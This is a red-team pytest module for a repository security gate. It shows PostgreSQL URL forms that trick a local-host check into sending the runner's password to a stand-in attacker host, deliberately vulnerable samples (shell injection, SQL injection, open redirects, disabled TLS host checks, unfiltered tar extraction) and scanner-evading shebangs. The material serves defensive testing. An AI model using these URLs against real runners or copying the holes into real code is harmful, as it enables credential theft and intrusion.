"""Red team red101: attacks on 0f4ae24/d58447c (red100's repairs) — local_postgres, the broad tarfile rule, the rewritten
shebang reader, the secrets scanner's value filters and the JavaScript rules.

Each finding test fails on w/red101 for the reason its docstring names and asserts the secure behaviour (it passes once
fixed). Real repositories (tests/repo_builder.py), the real `gatekeeper check --format json` (one run per scenario,
shared by a module fixture), real semgrep/bandit, real psycopg/libpq against a fake server bound to 127.0.0.2 (another
host) or to a Unix socket. Secret-shaped values are built by concatenation.

Findings:

1. HIGH — audit/decisionlog.py `local_postgres`: it reads the URL with urllib (a `#` ends the authority and the query,
   the LAST `@` ends the user part) while libpq reads neither `#` nor a fragment. Three forms pass as "this host" yet
   libpq connects to the host they name and, on a cleartext-password request, sends the runner's PGPASSWORD:
   `postgresql://localhost#@OTHER:5432/db` (libpq: user `localhost#`, host OTHER),
   `postgresql://localhost/db#?host=OTHER` (libpq: dbname `db#`, then ?host= overrides), and
   `postgresql:///db?host=/nonexistent,OTHER` (a `?host=` list is accepted when it starts with `/`; libpq tries each
   host in turn). Reached from `gatekeeper log verify/show/export` in a clone, `check` and `audit` without --policy,
   pre-receive's default-branch policy, the Action's base policy.
2. LOW — the same: "this host" is not "a server the runner trusts": a repository's policy may name any socket
   directory (`?host=/tmp/x`) or any port on localhost, where any local user can listen; libpq sends PGPASSWORD (and a
   ~/.pgpass `localhost` entry) to that listener. On a shared git server or CI host a repository's author collects the
   hook user's database password.
3. HIGH — rules/semgrep/python/tarfile-extract-unfiltered.yml vs bandit B202 (dropped by the gate as superseded):
   `extractall(dest, filter=None)` and `filter=tarfile.fully_trusted_filter` (any filter= is taken as safe), a tarfile
   imported lazily in another function, under `try:` or `if TYPE_CHECKING:`, and a helper whose parameter name holds
   "zip" (`gzipped_tar`) — bandit reports HIGH/HIGH, our rule nothing: allowed with no finding.
4. LOW (noise) — the same rule flags `py7zr.SevenZipFile(...).extractall()` and a helper typed `archive:
   zipfile.ZipFile` in any module that imports tarfile (non-tar archives whose extractall takes no filter).
5. MEDIUM — scan/workspace.py `interpreter_language`: runner options that take a value are read as the interpreter:
   `conda run -n tools python`, `micromamba run -n …`, `pixi run -e dev python`, `hatch -e dev run python`,
   `poetry -C /srv/app run python`, `uv --project /srv/app run --script`; and unknown runners/interpreters:
   `pyenv exec python3`, `mise exec … -- python`, `volta run node`, `npm exec -- tsx`, `graalpy`, `babel-node`.
   Executable scripts that env runs as Python/JS/TS reach no code scanner — silently.
6. MEDIUM — rules/secrets.yml generic-password/-secret value class `[^\\s"'`]` and scan/secrets.py filters: a quoted
   password holding the OTHER quote character (`"Kq9'vL…"`, `"Wd7#…`…"`: ~30% of 16-character generated passwords
   with symbols), or starting with `!` (_REFERENCE `^!`), `/` (taken for a file path) or `<` (placeholder `^<`),
   is dropped — in YAML, .env and script source alike; the secrets-only pre-receive hook allows the push.
7. MEDIUM — rules/semgrep/javascript/sql-string-building.yml $METHOD list: pg-promise (`db.any`, `db.oneOrNone`,
   `db.none`, `db.one`, `db.many`…), TypeORM's `createQueryBuilder().where(`…${x}`)` and `sequelize.literal(`…`)` —
   SQL injection with no finding.
8. MEDIUM — rules/semgrep/javascript/browser-open-redirect.yml sinks: `document.location.replace/assign(next)`,
   `window.top.location.href = next`, `top.location = next`, `self.location.href = next` — open redirects missed.
9. MEDIUM — rules/semgrep/javascript/tls-reject-unauthorized-false.yml: `tls.connect({checkServerIdentity: () =>
   undefined})` (any certificate for any host name accepted) is not flagged.

Tried and held (no test): percent-encoded hosts (`%31%32%37…`), `?%68ost=` keys, `[::1]…` tails, `u@evil@localhost`
(libpq reads host `evil@localhost`, unresolvable), a comma in the authority, hostaddr/service/passfile params
(refused), `postgres://` vs `postgresql://` and upper-case schemes, key=value conninfo (is_postgres refuses it); tar
shapes `import os, sys, tarfile`, `from tarfile import open as t` (bandit does not report those either); `with ZipFile(p)`
/ `x = ZipFile(p)` through `from zipfile import ZipFile` (not flagged); env `-iS`, `-`, `--`, `-uNAME`, `-C dir`,
`pipenv/rye run python`, `pnpm --silent dlx tsx`, `uv -q run --script`; `_SCRIPT_BETWEEN_STRINGS` now needs `.name(`
(a random password practically never holds `).x(`); SQL through `||` defaults, `${await f()}` and a `const sql`;
`rejectUnauthorized: false as boolean` and via a constant.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from gatekeeper.audit.decisionlog import destination
from gatekeeper.scan.workspace import interpreter_language
from tests.hook_helpers import DANA, TEST_POLICY
from tests.pg_fake import FakePostgres
from tests.repo_builder import RepoBuilder
from tests.scan_helpers import ALL_SCANNERS_POLICY, SECRETS_ONLY_POLICY, check_commit

ALL_SCANNERS = ALL_SCANNERS_POLICY
SECRETS_ONLY = SECRETS_ONLY_POLICY


def _env() -> dict[str, str]:
    return {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "INPUT_", "GATEKEEPER_", "PG"))}


def _check(where: Path, files: dict[str, str], *, policy: str, executable: frozenset[str] = frozenset()
           ) -> dict[str, Any]:
    """Dana's one commit of `files` on top of a README, judged by the real `gatekeeper check --format json`."""
    return check_commit(where, files, policy, executable=executable)[1]


def _findings(verdict: dict[str, Any], path: str) -> list[tuple[str, int | None, bool]]:
    return [(f["rule_id"], f.get("line"), bool(f.get("blocking"))) for f in verdict["findings"] if f.get("path") == path]


def _line_of(text: str, needle: str) -> int:
    return next(n for n, t in enumerate(text.splitlines(), 1) if needle in t)


# -- 1./2. a repository's policy makes the gate hand the runner's PostgreSQL password to a host it names -------------

def _log_verify_in_clone(tmp_path: Path, url: str, canary: str) -> None:
    repo = RepoBuilder.init(tmp_path / "clone")
    repo.commit("policy\n", {".gatekeeper.yml": TEST_POLICY + f"log: {{path: {json.dumps(url)}}}\n"},
                author=DANA, committer=DANA)
    env = _env()
    env["PGPASSWORD"] = canary
    env["PGSSLMODE"] = "prefer"
    env["PGCONNECT_TIMEOUT"] = "5"
    subprocess.run([sys.executable, "-m", "gatekeeper", "log", "verify"], cwd=repo.path, capture_output=True,
                   text=True, check=False, timeout=90, env=env)


OTHER_HOST_FORMS = {
    # urllib: the authority ends at '#', so the host is localhost; libpq: user "localhost#", host 127.0.0.2
    "fragment-in-authority": "postgresql://localhost#@127.0.0.2:{port}/audit",
    # urllib: no query (it is the fragment's); libpq: dbname "audit#", then ?host= and &port= override
    "fragment-before-query": "postgresql://localhost/audit#?host=127.0.0.2&port={port}",
    # a ?host= list starting with a socket directory: libpq tries each host in turn
    "host-list-after-socket-dir": "postgresql:///audit?host=/nonexistent-gk-socket-dir,127.0.0.2&port={port}",
}


@pytest.mark.parametrize("form", sorted(OTHER_HOST_FORMS))
def test_repository_policy_cannot_name_another_host_through_url_forms_local_postgres_misreads(
        tmp_path: Path, form: str) -> None:
    """Attack: a repository commits `.gatekeeper.yml` with `log.path` in one of OTHER_HOST_FORMS. `local_postgres`
    parses it with urllib.urlsplit/parse_qs and calls it "this host"; libpq (psycopg 3, libpq 18) does not know a
    `#` fragment and splits a `host=` list on commas, so it connects to 127.0.0.2 (standing for the attacker's host)
    and answers its cleartext-password request with the runner's PGPASSWORD. Reached here by `gatekeeper log verify`
    in a clone (also `check`/`audit` without --policy, pre-receive's default-branch policy, the Action's base policy).
    Severity: high (credential disclosure chosen by repository content — the exact red100 attack). Secure: refused
    like `postgresql://127.0.0.2/...` (local_postgres False), nothing sent."""
    server = FakePostgres()
    url = OTHER_HOST_FORMS[form].format(port=server.port)
    canary = "pg-" + "Canary" + "Pass-" + str(server.port)
    _log_verify_in_clone(tmp_path, url, canary)
    server.sock.close()
    sent = b"".join(server.received)
    assert canary.encode() not in sent, f"{url!r}: the user's PGPASSWORD was sent to the host the clone named"
    assert not server.received, f"{url!r}: `log verify` connected to the host the cloned repository named"
    assert destination({}, url, False, from_repository=True).target is None  # (local_postgres is gone)


def test_repository_policy_cannot_point_the_gate_at_a_socket_any_local_user_can_create(tmp_path: Path) -> None:
    """Attack: on a shared git server / CI host, a local user listens on a Unix socket in a directory of their own
    (`/tmp/x/.s.PGSQL.5432`; equally any unprivileged port on localhost) and pushes a repository whose policy has
    `log: {path: "postgresql:///audit?host=/tmp/x"}`. `local_postgres` accepts any `?host=` starting with `/` (and any
    port), so the gate run by the hook's or the victim's user connects there and libpq sends PGPASSWORD (or the
    ~/.pgpass entry for `localhost`, which matches socket connections). Severity: low (needs a local account).
    Secure: a repository's policy names no server at all (or only the default socket directory and port)."""
    sockdir = tmp_path / "s"
    sockdir.mkdir()
    server = FakePostgres(unix_dir=sockdir)
    url = f"postgresql:///audit?host={sockdir}"
    canary = "pg-" + "Canary" + "Sock-" + str(os.getpid())
    _log_verify_in_clone(tmp_path, url, canary)
    server.sock.close()
    assert canary.encode() not in b"".join(server.received), "PGPASSWORD was handed to a socket a local user owns"


# -- the code scenarios: one commit, one real `gatekeeper check` run for all of them ------------------------------------

def _tar(body: str, head: str = "import sys\nimport tarfile\n") -> str:
    return head + "\n\n" + body


TAR_MISSES = {
    "tar/filter_none.py": _tar("def unpack(path, dest):\n    with tarfile.open(path) as tar:\n"
                               "        tar.extractall(dest, filter=None)\n\n\nunpack(sys.argv[1], sys.argv[2])\n"),
    "tar/filter_fully_trusted.py": _tar("def unpack(path, dest):\n    with tarfile.open(path) as tar:\n"
                                        "        tar.extractall(dest, filter=tarfile.fully_trusted_filter)\n\n\n"
                                        "unpack(sys.argv[1], sys.argv[2])\n"),
    "tar/lazy_import.py": "import sys\n\n\ndef fetch(path):\n    import tarfile\n    return tarfile.open(path)\n\n\n"
                          "def unpack(archive, dest):\n    archive.extractall(dest)\n\n\n"
                          "unpack(fetch(sys.argv[1]), sys.argv[2])\n",
    "tar/try_import.py": "import sys\n\ntry:\n    import tarfile\nexcept ImportError:\n    tarfile = None\n\n\n"
                         "def unpack(archive, dest):\n    archive.extractall(dest)\n\n\n"
                         "unpack(tarfile.open(sys.argv[1]), sys.argv[2])\n",
    "tar/type_checking.py": "from typing import TYPE_CHECKING\n\nif TYPE_CHECKING:\n    import tarfile\n\n\n"
                            "def unpack(archive: \"tarfile.TarFile\", dest: str) -> None:\n"
                            "    archive.extractall(dest)\n",
    "tar/gzipped.py": _tar("def unpack(gzipped_tar, dest):\n    gzipped_tar.extractall(dest)\n\n\n"
                           "unpack(tarfile.open(sys.argv[1], \"r:gz\"), sys.argv[2])\n"),
}
TAR_NOISE = {
    "noise/sevenzip.py": "import tarfile\n\nimport py7zr\n\n\ndef unpack(path, dest):\n"
                         "    with py7zr.SevenZipFile(path) as archive:\n        archive.extractall(dest)\n\n\n"
                         "OPEN = tarfile.open\n",
    "noise/zip_typed.py": "import tarfile\nimport zipfile\n\n\ndef unpack(archive: zipfile.ZipFile, dest):\n"
                          "    archive.extractall(dest)\n\n\nOPEN = tarfile.open\n",
}

PY_BODY = "import subprocess\nimport sys\n\nsubprocess.call(sys.argv[1], shell=True)\n"
JS_BODY = "const { exec } = require('child_process');\n\nexec(`tar xf ${process.argv[2]}`);\neval(process.argv[3]);\n"
SHEBANGS = {
    "bin/conda-tool": ("#!/usr/bin/env -S conda run -n tools python", PY_BODY),
    "bin/mamba-tool": ("#!/usr/bin/env -S micromamba run -n tools python3", PY_BODY),
    "bin/pixi-tool": ("#!/usr/bin/env -S pixi run -e dev python", PY_BODY),
    "bin/hatch-tool": ("#!/usr/bin/env -S hatch -e dev run python", PY_BODY),
    "bin/poetry-tool": ("#!/usr/bin/env -S poetry -C /srv/app run python", PY_BODY),
    "bin/uv-tool": ("#!/usr/bin/env -S uv --project /srv/app run --script", PY_BODY),
    "bin/pyenv-tool": ("#!/usr/bin/env -S pyenv exec python3", PY_BODY),
    "bin/mise-tool": ("#!/usr/bin/env -S mise exec python@3.12 -- python", PY_BODY),
    "bin/graalpy-tool": ("#!/usr/bin/env graalpy", PY_BODY),
    "bin/volta-tool": ("#!/usr/bin/env -S volta run node", JS_BODY),
    "bin/npm-exec-tool": ("#!/usr/bin/env -S npm exec --yes -- tsx", JS_BODY),
    "bin/babel-tool": ("#!/usr/bin/env babel-node", JS_BODY),
}
# (premise: the same bodies under lines the reader knows are reported)
SHEBANG_CONTROLS = {
    "bin/control-py": ("#!/usr/bin/env -S pipenv run python", PY_BODY),
    "bin/control-js": ("#!/usr/bin/env -S npx tsx", JS_BODY),
}

SQL_TS = """\
export async function pgPromise(req: any, db: any) {
  const rows = await db.any(`SELECT * FROM users WHERE name = '${req.query.name}'`);
  const one = await db.oneOrNone('SELECT * FROM users WHERE id = ' + req.params.id);
  await db.none(`DELETE FROM sessions WHERE token = '${req.cookies.sid}'`);
  return [rows, one];
}

export async function typeorm(req: any, repo: any) {
  return repo.createQueryBuilder('user').where(`user.name = '${req.query.name}'`).getMany();
}

export function sequelizeLiteral(req: any, sequelize: any) {
  return sequelize.literal(`(SELECT COUNT(*) FROM posts WHERE posts.owner = '${req.query.owner}')`);
}
"""
REDIRECT_JS = """\
export function a() {
  const next = new URLSearchParams(location.search).get('next');
  document.location.replace(next);
}

export function b() {
  const next = new URLSearchParams(location.search).get('next');
  window.top.location.href = next;
}

export function c() {
  const next = new URLSearchParams(location.search).get('next');
  document.location.assign(next);
}

export function d() {
  const next = new URLSearchParams(location.search).get('next');
  top.location = next;
}

export function e() {
  const next = new URLSearchParams(location.search).get('next');
  self.location.href = next;
}
"""
TLS_TS = """\
import tls from 'tls';

export function connect(host: string) {
  return tls.connect({ host, port: 443, servername: host, checkServerIdentity: () => undefined });
}
"""


@pytest.fixture(scope="module")
def code_verdict(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    files = {**TAR_MISSES, **TAR_NOISE, "web/sql.ts": SQL_TS, "web/redirect.js": REDIRECT_JS, "web/tls.ts": TLS_TS}
    files.update({path: line + "\n" + body for path, (line, body) in {**SHEBANGS, **SHEBANG_CONTROLS}.items()})
    verdict = _check(tmp_path_factory.mktemp("code"), files, policy=ALL_SCANNERS,
                     executable=frozenset(SHEBANGS) | frozenset(SHEBANG_CONTROLS))
    scanners = verdict["stats"]["scanners"]
    assert scanners["semgrep"]["ran"] and scanners["bandit"]["ran"], scanners
    return verdict


# -- 3./4. tarfile: what bandit's B202 reports (and the gate drops) that our rule misses; and the reverse ------------

@pytest.mark.parametrize("path", sorted(TAR_MISSES))
def test_tar_extraction_bandit_reports_is_not_dropped_without_a_finding_of_ours(
        tmp_path: Path, code_verdict: dict[str, Any], path: str) -> None:
    """Attack: a commit extracts an uploaded tar archive with `extractall()` and no safe member filter — `filter=None`
    (the unsafe default spelled out), `filter=tarfile.fully_trusted_filter`, tarfile imported lazily in another
    function / under `try:` / under `if TYPE_CHECKING:`, or a helper whose parameter is `gzipped_tar` (the rule's
    `(?!.*zip)` name exclusion). bandit reports B202 HIGH/HIGH (premise below), the gate drops B202 because semgrep
    ran (superseded), and python-tarfile-extract-unfiltered says nothing. Verdict: allow. Severity: high (tar slip).
    Secure: a blocking finding on the extractall line."""
    text = TAR_MISSES[path]
    line = _line_of(text, "extractall")
    where = tmp_path / "premise"
    where.mkdir()
    (where / "m.py").write_text(text)
    raw = subprocess.run([sys.executable, "-I", "-m", "bandit", "-f", "json", "-q", "m.py"], cwd=where,
                         capture_output=True, text=True, check=False, timeout=120)
    assert ("B202", "HIGH", line) in [(r["test_id"], r["issue_severity"], r["line_number"])
                                      for r in json.loads(raw.stdout)["results"]]
    assert any(ln == line and blocking for _, ln, blocking in _findings(code_verdict, path)), (
        f"{path}: tar extraction allowed with no finding: {_findings(code_verdict, path)}")


@pytest.mark.parametrize("path", sorted(TAR_NOISE))
def test_non_tar_extractall_in_a_module_importing_tarfile_is_not_a_tar_finding(
        code_verdict: dict[str, Any], path: str) -> None:
    """Noise: `py7zr.SevenZipFile(p)` and a helper typed `archive: zipfile.ZipFile` are no tar archives (zipfile and
    py7zr sanitise member names), but the broad branch flags any `.extractall()` without filter= in a module that
    imports tarfile. Severity: low (false positive, blocking at medium). Secure: no tarfile finding."""
    assert not [f for f in _findings(code_verdict, path) if "tarfile" in f[0]], _findings(code_verdict, path)


# -- 5. shebangs that run Python/JS/TS but read as no language ------------------------------------------------------

@pytest.mark.parametrize("path", sorted(SHEBANGS))
def test_executable_script_run_through_a_runner_reaches_a_code_scanner(code_verdict: dict[str, Any], path: str) -> None:
    """Attack: an executable script whose `#!` line runs it as Python or JavaScript/TypeScript through a runner with
    a valued option (`conda run -n tools python`, `pixi run -e dev`, `hatch -e dev run`, `poetry -C dir run`, `uv
    --project dir run`) or a runner/interpreter the reader does not know (`pyenv exec`, `mise exec`, `volta run`,
    `npm exec`, `graalpy`, `babel-node`). interpreter_language reads None, so semgrep and bandit never see it: the
    shell-injection body passes silently. Severity: medium. Secure: the language is read and the sink is reported."""
    line, body = SHEBANGS[path]
    assert all(_findings(code_verdict, control) for control in SHEBANG_CONTROLS), "premise: the bodies are flagged"
    assert _findings(code_verdict, path), f"{path} ({line}) reached no code scanner: allowed with no finding"
    assert interpreter_language(line.encode()) is not None, f"{line!r} read as no language"


# -- 7./8./9. JavaScript rules ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("needle", ["db.any(", "db.oneOrNone(", "db.none(", ".where(`user.name", "sequelize.literal("])
def test_sql_built_from_request_values_is_flagged_in_common_query_apis(code_verdict: dict[str, Any],
                                                                         needle: str) -> None:
    """Attack: SQL built from request values passed to pg-promise (`db.any/oneOrNone/none`), TypeORM's query builder
    `.where(...)` or `sequelize.literal(...)` — none is in js-sql-string-building's $METHOD list. Severity: medium
    (critical rule, SQL injection with no finding). Secure: a finding on the line."""
    line = _line_of(SQL_TS, needle)
    assert any(ln == line and "sql" in rule for rule, ln, _ in _findings(code_verdict, "web/sql.ts")), (
        f"line {line} ({needle}) not flagged: {_findings(code_verdict, 'web/sql.ts')}")


@pytest.mark.parametrize("needle", ["document.location.replace(", "window.top.location.href", "top.location = ",
                                    "document.location.assign(", "self.location.href"])
def test_open_redirect_through_other_location_objects_is_flagged(code_verdict: dict[str, Any], needle: str) -> None:
    """Attack: `?next=` from location.search sent to `document.location.replace/assign`, `window.top.location.href`,
    `top.location` or `self.location.href` — sinks js-browser-open-redirect (and open-redirect) do not list.
    Severity: medium. Secure: a finding on the line."""
    line = _line_of(REDIRECT_JS, needle)
    assert any(ln == line for _, ln, _ in _findings(code_verdict, "web/redirect.js")), (
        f"line {line} ({needle}) not flagged: {_findings(code_verdict, 'web/redirect.js')}")


def test_tls_host_name_check_disabled_is_flagged(code_verdict: dict[str, Any]) -> None:
    """Attack: `tls.connect({checkServerIdentity: () => undefined})` accepts any valid certificate for any host —
    a man in the middle with a certificate for his own domain reads the traffic. The TLS rule lists
    rejectUnauthorized/strictSSL/insecure only. Severity: medium. Secure: a finding on the line."""
    line = _line_of(TLS_TS, "checkServerIdentity")
    assert any(ln == line for _, ln, _ in _findings(code_verdict, "web/tls.ts")), _findings(code_verdict, "web/tls.ts")


# -- 6. secrets: real passwords dropped by the value class and the value filters ------------------------------------

Q = "'"
PASSWORDS = {
    "other-quote-inside": "Kq9" + Q + "vL2!mZ7xR",
    "backtick-inside": "Wd7#Lq9" + "`" + "Zp2@xVr",
    "starts-with-bang": "!" + "Kv|CiS=GuP=J6sG",
    "starts-with-slash": "/" + "CU)0^DrO$MA(2gd",
    "starts-with-lt": "<" + "Xb}:(s{dA9UDM9D",
}
CONTROL = "Wd7#Lq9" + "xZp2@xVr"


@pytest.fixture(scope="module")
def secrets_verdict(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    files = {f"deploy/{name}.yml": f"db_password: \"{pw}\"\n" for name, pw in PASSWORDS.items()}
    files["deploy/control.yml"] = f"db_password: \"{CONTROL}\"\n"
    return _check(tmp_path_factory.mktemp("secrets"), files, policy=SECRETS_ONLY)


@pytest.mark.parametrize("name", sorted(PASSWORDS))
def test_generated_password_with_symbols_is_reported(secrets_verdict: dict[str, Any], name: str) -> None:
    """Attack: a deploy config commits `db_password: "<a generated password>"`. The generic rules' quoted value is
    `[^\\s"'`]` whatever quote opened it, so a password holding the other quote character (~30% of 16-character
    generated passwords with symbols) does not match at all; one starting with `!` is a "reference" (_REFERENCE
    `^!`), with `/` a "file path", with `<` a "placeholder" (`^<`). The same value without those characters is
    reported (control). Severity: medium (a real credential pushed with the secrets-only hook: allowed). Secure:
    reported like the control."""
    assert _findings(secrets_verdict, "deploy/control.yml"), "premise: the control password is reported"
    assert _findings(secrets_verdict, f"deploy/{name}.yml"), f"{name}: the password was dropped"
